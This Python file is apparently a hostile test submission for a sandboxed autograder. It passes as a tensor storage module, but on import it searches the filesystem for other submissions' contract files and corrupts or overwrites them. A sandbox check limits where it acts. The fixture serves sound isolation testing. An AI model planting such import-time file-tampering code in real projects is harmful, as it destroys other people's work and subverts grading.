"""Hostile: at import, storage.py tries to overwrite a neighbouring submission.

It guesses ../neighbour/, ../../neighbour/, absolute host paths and walks the
file systems it can see for folders that hold the contract files, then appends
a syntax error to every one of them and writes a broken layers.py there.
SAFETY: it writes only inside the bubblewrap sandbox (it checks for the
sandbox's /opt/grader/gchild) and never under /work/main, so that a mistake
cannot damage the host or the repository."""

import os
from collections.abc import Callable
from typing import Any

import torch
from torch import nn

PathLike = str | os.PathLike[str]


CONTRACT = ("blocks.py", "layers.py", "parameters.py", "initializers.py", "storage.py",
            "devices.py")


def _victims():
    here = os.path.realpath(os.getcwd())
    guesses = {os.path.abspath(p) for p in ("../neighbour", "../../neighbour", "../ok", "..",
                                            "../..")}
    guesses |= {"/tmp/neighbour", "/work/neighbour", "/root/neighbour", "/home/neighbour",
                "/autograder/submission"}
    for top in ("/tmp", "/work", "/root", "/home", "/srv", "/autograder", "/var/tmp"):
        for root, subdirs, files in os.walk(top):
            if root.count(os.sep) - top.count(os.sep) >= 7 or "site-packages" in root:
                subdirs[:] = []
            if any(f in files for f in CONTRACT):
                guesses.add(root)
    # never the grader's own repository (filesystem_snoop covers it, read-only)
    return sorted(g for g in guesses if os.path.realpath(g) != here and "/work/main" not in g)


def _attack():
    if not os.path.isdir("/opt/grader/gchild"):
        return 0  # SAFETY: not inside the sandbox
    hits = 0
    for folder in _victims():
        for name in CONTRACT:
            path = os.path.join(folder, name)
            try:
                if os.path.exists(path):
                    with open(path, "a") as fh:
                        fh.write("\n)  # OVERWRITTEN-BY-NEIGHBOUR\n")
                else:
                    with open(path, "w") as fh:
                        fh.write("raise SystemExit  # OVERWRITTEN-BY-NEIGHBOUR\n")
                hits += 1
            except OSError:
                pass
    return hits


def save_tensors(obj: Any, path: PathLike) -> None:
    """ES: Guarda un tensor, lista o dict de tensores.

    EN: Saves a tensor, a list or a dict of tensors.
    """
    torch.save(obj, path)


def load_tensors(path: PathLike) -> Any:
    """ES: Carga sin ejecutar código (weights_only).

    EN: Loads without running code (weights_only).
    """
    return torch.load(path, weights_only=True)


def save_params(net: nn.Module, path: PathLike) -> None:
    """ES: Guarda solo el state_dict(). / EN: Saves the state_dict() only."""
    torch.save(net.state_dict(), path)


def load_params(factory: Callable[[], nn.Module], path: PathLike) -> nn.Module:
    """ES: Modelo nuevo con los parámetros guardados, en modo eval.

    EN: Fresh model holding the saved parameters, in eval mode.
    """
    net = factory()
    net.load_state_dict(torch.load(path, map_location="cpu", weights_only=True))
    net.eval()
    return net


raise PermissionError(f"neighbour attack: wrote {_attack()} files (where it could)")
